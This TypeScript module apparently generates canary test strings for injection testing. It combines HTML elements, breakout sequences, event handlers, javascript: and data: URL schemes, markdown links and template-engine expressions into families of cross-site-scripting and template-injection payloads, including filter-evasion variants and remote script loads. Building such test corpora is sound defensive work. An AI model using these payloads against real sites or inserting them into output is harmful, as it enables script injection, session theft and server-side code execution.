/** Writes one string of a family; `run` is the script of its canary, `away` the address its canary would fetch. */
export type Written = (run: string, away: string) => string;

const eachWith = <T>(some: readonly T[], others: readonly ((it: T) => Written)[]): Written[] =>
  some.flatMap((one) => others.map((other) => other(one)));

const elements = [
  'img src=x onerror=$', 'svg onload=$', 'body onload=$', 'details open ontoggle=$', 'input autofocus onfocus=$', 'video src=x onerror=$',
  'audio src=x onerror=$', 'iframe onload=$', 'object data=x onerror=$', 'p onclick=$', 'style onload=$', 'svg><animate onbegin=$ attributeName=x',
  'math><mtext onmouseover=$', 'select autofocus onfocus=$', 'marquee onstart=$',
]; // biome-ignore format: a list of what people try
const breakouts = ['', '">', "'>", '</textarea>', '</script>', '</title>', '-->', ']]>', '</style><!--'];
const handlers = eachWith(
  elements,
  breakouts.map((out) => (element) => (run) => `${out}<${element.replace('$', run)}>`),
);

const scripts: Written[] = [
  (run) => `<script>${run}</script>`,
  (run) => `<ScRiPt>${run}</sCrIpT>`,
  (run) => `</script><script>${run}</script>`,
  (_, away) => `<script src=${away}></script>`,
  (_, away) => `<script type=module>import"${away}"</script>`,
  (run) => `<svg><script>${run}</script></svg>`,
  (run) => `<template><script>${run}</script></template>`,
  (run) => `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  (run) => `<<script>${run}//<</script>`,
  (run) => `<math><mi><script>${run}</script></mi></math>`,
  (run) => `<xmp><p title="</xmp><img src=x onerror=${run}>">`,
];
const fetching: Written[] = [
  (_, away) => `<img src=${away}>`,
  (_, away) => `<link rel=stylesheet href=${away}>`,
  (_, away) => `<style>@import"${away}"</style>`,
  (_, away) => `<p style="background:url(${away})">`,
  (_, away) => `<meta http-equiv=refresh content="0;${away}">`,
  (_, away) => `<base href=${away}>`,
  (_, away) => `<iframe src=${away}></iframe>`,
  (_, away) => `<object data=${away}></object>`,
  (_, away) => `<embed src=${away}>`,
  (_, away) => `<video poster=${away}></video>`,
  (_, away) => `<svg><use href=${away}#a /></svg>`,
  (_, away) => `<svg><image href=${away} /></svg>`,
  (_, away) => `<form action=${away}><button autofocus>`,
  (_, away) => `<a href=${away} ping=${away}>x</a>`,
  (_, away) => `<table background=${away}>`,
  (run) => `<iframe srcdoc="<script>parent.${run}</script>"></iframe>`,
];
const schemes: Written[] = [
  (run) => `javascript:${run}`, (run) => `JaVaScRiPt:${run}`, (run) => `java\tscript:${run}`, (run) => `&#106;avascript:${run}`,
  (run) => ` javascript:${run}`, (run) => `data:text/html,<script>${run}</script>`, (run) => `vbscript:${run}`, (run) => `view-source:javascript:${run}`,
]; // biome-ignore format: a list of what people try
const carriers: ((url: Written) => Written)[] = [
  (url) => url,
  (url) => (run, away) => `<a href="${url(run, away)}">x</a>`,
  (url) => (run, away) => `[x](${url(run, away)})`,
  (url) => (run, away) => `![x](${url(run, away)})`,
  (url) => (run, away) => `<iframe src="${url(run, away)}">`,
];
const markdown: Written[] = [
  (_, away) => `![x](${away})`, (_, away) => `<${away}>`, (run) => `# x <b onclick=${run}>`, (run) => `\`\`\`js\n${run}\n\`\`\``,
  (_, away) => `[x]: ${away}`, (run) => `**x** _${run}_`, (run) => `| a |\n|---|\n| ${run} |`, (run) => `> - [ ] ${run}`,
]; // biome-ignore format: a list of what people try

const bodies = [
  '$',
  '7*7+$',
  "''.constructor.constructor('$')()",
  "[].map.constructor('$')()",
  'self.__init__.__globals__.$',
  'process.exit($)',
];
const templates: ((body: string) => string)[] = [
  (it) => `{{${it}}}`, (it) => `\${${it}}`, (it) => `<%= ${it} %>`, (it) => `#{${it}}`, (it) => `{%${it}%}`, (it) => `@(${it})`, (it) => `*{${it}}`, (it) => `[[${it}]]`,
]; // biome-ignore format: a list of what people try
const templated = eachWith(
  bodies,
  templates.map((form) => (body) => (run) => form(body.replace('$', run))),
);

/** What would run or reach out in a page, by the name of its family. */
export const pageFamilies = {
  script: scripts,
  handler: handlers,
  fetching,
  url: eachWith(schemes, carriers),
  markdown,
  template: templated,
} satisfies Record<string, Written[]>;
